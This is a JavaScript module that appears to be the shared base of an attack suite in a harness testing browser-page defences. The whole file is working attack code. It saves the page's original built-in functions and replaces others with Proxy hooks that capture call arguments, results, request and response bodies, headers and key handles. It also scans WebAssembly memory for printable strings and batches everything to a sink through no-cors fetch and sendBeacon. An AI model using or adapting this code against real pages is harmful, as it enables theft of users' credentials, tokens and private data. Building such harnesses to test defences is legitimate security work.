// What every attack uses: the functions of the realm as they were when the attacker came, and a way to the sink. The files in
// this folder are put together into one script (see ../script.mjs), whose scope nothing else on the page can reach; `given`
// is what the harness says: { sink, page, api, echo, oidc, run }.

const { apply, ownKeys, getPrototypeOf, getOwnPropertyDescriptor, defineProperty } = Reflect;
const { isArray } = Array;
const { stringify } = JSON;
const isView = ArrayBuffer.isView;
const realFetch = globalThis.fetch;
const realThen = Promise.prototype.then;
const realBeacon = Navigator.prototype.sendBeacon;
const realTimer = globalThis.setTimeout;
const realAdd = EventTarget.prototype.addEventListener;
const realClone = Response.prototype.clone;
const realText = Response.prototype.text;
const realRequestClone = Request.prototype.clone;
const realRequestText = Request.prototype.text;
const realBlobText = Blob.prototype.text;
const realEach = Headers.prototype.forEach;
const realBtoa = globalThis.btoa;
const realChar = String.fromCharCode;
const realSlice = String.prototype.slice;
const realSubarray = getPrototypeOf(Uint8Array.prototype).subarray;
const {
  Uint8Array: Bytes,
  ArrayBuffer: Buffer,
  Promise: RealPromise,
  Set: RealSet,
  Response: RealResponse,
} = globalThis;
const { Request: RealRequest, Headers: RealHeaders, Blob: RealBlob, CryptoKey: RealKey } = globalThis;
const { has: setHas, add: setAdd } = RealSet.prototype;
const MOST_PER_ATTACK = 4000;
const MOST_BYTES = 300_000;

/** While the attacker's own code runs, its hooks stand aside: it must not listen to itself. */
let busy = false;
/** When the attacker acts for itself, what its hooks hear of that is not theirs. */
let quiet = false;
let queue = [];
let queued = 0;
let pending = 0;
let timer = 0;
const reported = new RealSet();
const counts = { __proto__: null };
/** Large buffers that came by: the memory of a wasm instance, if anything gave it away. By attack. */
const memories = [];

/** Sends what can be got out of `value` to the sink. */
function report(attack, value) {
  if (busy || (quiet && attack in hooks)) return;
  busy = true;
  try {
    const texts = [];
    flatten(attack, value, texts, 0, new RealSet());
    send(attack, texts);
  } catch {
    // A value that cannot be read is not stolen.
  } finally {
    busy = false;
  }
}

function send(attack, texts) {
  for (let at = 0; at < texts.length; at++) {
    const text = texts[at];
    if (text.length < 8) continue;
    const known = `${attack} ${text}`;
    if (apply(setHas, reported, [known])) continue;
    counts[attack] = (counts[attack] || 0) + 1;
    if (counts[attack] > MOST_PER_ATTACK) continue;
    apply(setAdd, reported, [known]);
    defineProperty(queue, queue.length, {
      value: [attack, text],
      writable: true,
      enumerable: true,
      configurable: true,
    });
    queued += text.length;
  }
  if (queued > 1_000_000) flush();
  else if (!timer) timer = realTimer(flush, 20);
}

function take() {
  const body = stringify(queue);
  queue = [];
  queued = 0;
  return body;
}

/** A request that needs no permission of the sink. */
function flush() {
  timer = 0;
  if (!queue.length) return;
  const before = busy;
  busy = true;
  const body = take();
  busy = before;
  track(apply(realFetch, globalThis, [`${given.sink}/batch`, { method: "POST", mode: "no-cors", body }]));
}

/** `idle()` waits for this. */
function track(promise) {
  pending++;
  const done = () => void pending--;
  apply(realThen, promise, [done, done]);
}

async function idle() {
  for (let quiet = 0; quiet < 3;) {
    await new RealPromise((resolve) => realTimer(resolve, 15));
    flush();
    quiet = pending || queue.length ? 0 : quiet + 1;
  }
}

apply(realAdd, globalThis, [
  "pagehide",
  () => {
    if (queue.length) apply(realBeacon, navigator, [`${given.sink}/batch`, take()]);
  },
]);

function flatten(attack, value, texts, depth, seen) {
  if (typeof value === "string")
    return push(texts, value.length > MOST_BYTES ? apply(realSlice, value, [0, MOST_BYTES]) : value);
  if (typeof value !== "object" || value === null || depth > 5 || texts.length > 400) return;
  if (apply(setHas, seen, [value])) return;
  apply(setAdd, seen, [value]);
  if (value instanceof Buffer || isView(value)) return bytesOf(attack, value, texts);
  if (value instanceof RealResponse) return later(attack, value, realClone, realText, value.bodyUsed, texts);
  if (value instanceof RealRequest)
    return later(attack, value, realRequestClone, realRequestText, value.bodyUsed, texts);
  if (value instanceof RealBlob) return track(sendText(attack, apply(realBlobText, value, [])));
  if (
    value instanceof RealHeaders ||
    value instanceof URLSearchParams ||
    value instanceof FormData ||
    value instanceof Map
  ) {
    const proto = value instanceof RealHeaders ? realEach : getPrototypeOf(value).forEach;
    apply(proto, value, [
      (one, name) => {
        push(texts, `${typeof name === "string" ? name : ""}: ${typeof one === "string" ? one : ""}`);
        flatten(attack, one, texts, depth + 1, seen);
      },
    ]);
    return;
  }
  if (value instanceof RealKey) {
    if (value.type !== "public") push(texts, `KEY-HANDLE ${value.algorithm.name} ${value.usages.length}`);
    return;
  }
  if (value instanceof URL) return push(texts, value.href);
  if (value instanceof MessageEvent) flatten(attack, value.data, texts, depth + 1, seen);
  if (value instanceof Error) push(texts, `${value.message}\n${value.stack}`);
  const memory = typeof WebAssembly === "object" && value instanceof WebAssembly.Memory ? value.buffer : undefined;
  if (memory) return bytesOf(attack, memory, texts);
  if (value instanceof Node || value === globalThis) return;
  const names = ownKeys(value);
  for (let at = 0; at < names.length && at < 200; at++) {
    const found = getOwnPropertyDescriptor(value, names[at]);
    if (found && "value" in found) flatten(attack, found.value, texts, depth + 1, seen);
  }
}

const push = (texts, text) =>
  void defineProperty(texts, texts.length, { value: text, writable: true, enumerable: true, configurable: true });

function bytesOf(attack, value, texts) {
  const buffer = value instanceof Buffer ? value : value.buffer;
  // The size of a page of wasm memory, and nothing that a page usually handles.
  if (
    buffer.byteLength >= 1_048_576 &&
    buffer.byteLength % 65_536 === 0 &&
    !memories.some((one) => one.buffer === buffer)
  ) {
    memories[memories.length] = { attack, buffer };
  }
  const view = value instanceof Buffer ? new Bytes(value) : new Bytes(buffer, value.byteOffset, value.byteLength);
  if (view.length > MOST_BYTES) return;
  push(texts, base64(view));
}

function base64(view) {
  let text = "";
  for (let at = 0; at < view.length; at += 4096)
    text += apply(realChar, undefined, apply(realSubarray, view, [at, at + 4096]));
  return realBtoa(text);
}

/** Everything printable in a memory. */
function scan(attack, buffer) {
  const view = new Bytes(buffer);
  const texts = [];
  for (let at = 0, start = 0; at <= view.length; at++) {
    if (at < view.length && view[at] > 32 && view[at] < 127) continue;
    if (at - start >= 20)
      texts[texts.length] = apply(realChar, undefined, apply(realSubarray, view, [start, Math.min(at, start + 9000)]));
    start = at + 1;
  }
  busy = true;
  for (let at = 0; at < texts.length; at += 200) send(attack, [texts.slice(at, at + 200).join("\n")]);
  busy = false;
}

/** A body is copied at once, before its owner reads it, and told when it has arrived. */
function later(attack, message, clone, text, used, texts) {
  push(texts, message.url);
  apply(realEach, message.headers, [(one, name) => push(texts, `${name}: ${one}`)]);
  if (used || message.body === null) return;
  track(sendText(attack, apply(text, apply(clone, message, []), [])));
}

async function sendText(attack, promise) {
  const text = await promise;
  const before = busy;
  busy = true;
  send(attack, [text.length > MOST_BYTES ? apply(realSlice, text, [0, MOST_BYTES]) : text]);
  busy = before;
}

/** Puts a listening function in the place of a function. What it is called with, on, and answers is reported. */
function listenTo(owner, name, attack, { self = false, answer = true, change } = {}) {
  const found = owner && getOwnPropertyDescriptor(owner, name);
  if (typeof found?.value !== "function") return;
  const heard = (result) => {
    if (!answer) return;
    if (result instanceof RealPromise) apply(realThen, result, [(value) => report(attack, value), () => {}]);
    else report(attack, result);
  };
  const value = new Proxy(found.value, {
    apply(real, that, args) {
      if (busy) return apply(real, that, args);
      report(attack, args);
      if (self) report(attack, that);
      const result = apply(real, that, change ? change(args, that) : args);
      heard(result);
      return result;
    },
    construct(real, args, target) {
      if (busy) return Reflect.construct(real, args, target === value ? real : target);
      report(attack, args);
      const result = Reflect.construct(real, args, target === value ? real : target);
      heard(result);
      return result;
    },
  });
  replace(owner, name, { ...found, value });
}

/** The same for an accessor. */
function listenToAccessor(owner, name, attack) {
  const found = owner && getOwnPropertyDescriptor(owner, name);
  if (!found?.get && !found?.set) return;
  const get =
    found.get &&
    function () {
      const value = apply(found.get, this, []);
      report(attack, value);
      return value;
    };
  const set =
    found.set &&
    function (value) {
      report(attack, value);
      apply(found.set, this, [value]);
    };
  replace(owner, name, { ...found, get, set });
}

/** A defence may have made it fixed; then the hook is not there. */
function replace(owner, name, descriptor) {
  try {
    Reflect.defineProperty(owner, name, descriptor);
  } catch {
    // Refused.
  }
}
